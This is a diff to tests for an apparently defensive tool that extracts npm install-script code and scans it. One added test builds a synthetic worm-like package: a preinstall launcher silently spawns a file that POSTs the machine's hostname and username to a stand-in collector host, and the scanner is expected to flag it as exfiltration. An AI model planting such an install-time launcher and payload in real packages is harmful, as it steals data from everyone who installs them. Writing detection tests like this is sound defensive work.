@@ -18,11 +18,14 @@ async function installCode(entries: TarEntry[] | Buffer, commands: string[]) {
 const manifest = (scripts: Record<string, string> = {}) => JSON.stringify({ name: 'p', version: '1.0.0', scripts });
 
 describe('installCode', () => {
-  test("esbuild's real tarball: its postinstall's install.js is kept whole, and reads clean", async () => {
+  test("esbuild's real tarball: its postinstall's install.js is kept whole with the lib/main.js it names by folder path, and both read clean", async () => {
     const code = await installCode(loadTarball('esbuild', '0.28.2'), ['node install.js']);
-    expect(code?.files.map((f) => [f.path, f.language, f.size, f.truncated])).toEqual([['install.js', 'javascript', 11773, false]]);
+    expect(code?.files.map((f) => [f.path, f.language, f.size, f.truncated])).toEqual([
+      ['install.js', 'javascript', 11773, false],
+      ['lib/main.js', 'javascript', 97463, false],
+    ]);
     expect(code?.missing).toEqual([]);
-    expect(readInstallJavaScript(code!.files[0]!.text)).toEqual([]);
+    expect(code!.files.map((f) => readInstallJavaScript(f.text))).toEqual([[], []]);
   });
 
   test("the tarball's own package.json names the commands too; without any, nothing is kept", async () => {
@@ -73,6 +76,36 @@ describe('installCode', () => {
     // A loaded module the archive lacks (a native addon built at install) is neither missing nor unread.
     expect(code?.missing).toEqual([]);
     expect(code?.unread).toEqual([]);
+  });
+
+  test('a file the install code runs by a path built from its folder is read too (synthetic, shaped like the November 2025 worm: a launcher spawning a second file)', async () => {
+    const launcher = "const { spawn } = require('child_process');\nconst path = require('path');\nspawn(process.execPath, [path.join(__dirname, 'lib', 'env.js')], { stdio: 'ignore' });";
+    const payload = "const os = require('os');\nfetch('https://collector.example/c', { method: 'POST', body: JSON.stringify({ h: os.hostname(), u: os.userInfo().username }) });";
+    const code = await installCode(
+      [
+        { path: 'package/package.json', body: manifest({ preinstall: 'node setup.js' }) },
+        { path: 'package/lib/env.js', body: payload },
+        { path: 'package/setup.js', body: launcher },
+      ],
+      ['node setup.js'],
+    );
+    expect(code?.files.map((f) => [f.path, f.language])).toEqual([['setup.js', 'javascript'], ['lib/env.js', 'javascript']]);
+    expect(readInstallJavaScript(code!.files[0]!.text)).toEqual([]);
+    expect(readInstallJavaScript(code!.files[1]!.text).map((f) => f.flag)).toContain('exfiltration');
+  });
+
+  test('a file named by a folder path but too large to keep is unread, one not shipped names nothing', async () => {
+    const code = await installCode(
+      [
+        { path: 'package/package.json', body: manifest({ preinstall: 'node setup.js' }) },
+        { path: 'package/big.js', body: 'x'.repeat(300 * 1024) },
+        { path: 'package/setup.js', body: "spawn('bun', [path.join(__dirname, 'big.js')]); spawn('bun', [path.join(__dirname, 'gone.js')]);" },
+      ],
+      ['node setup.js'],
+    );
+    expect(code?.files.map((f) => f.path)).toEqual(['setup.js']);
+    expect(code?.unread).toEqual(['big.js']);
+    expect(code?.missing).toEqual([]);
   });
 
   test('a file the command names and the archive lacks is missing; paths outside the package name nothing', async () => {
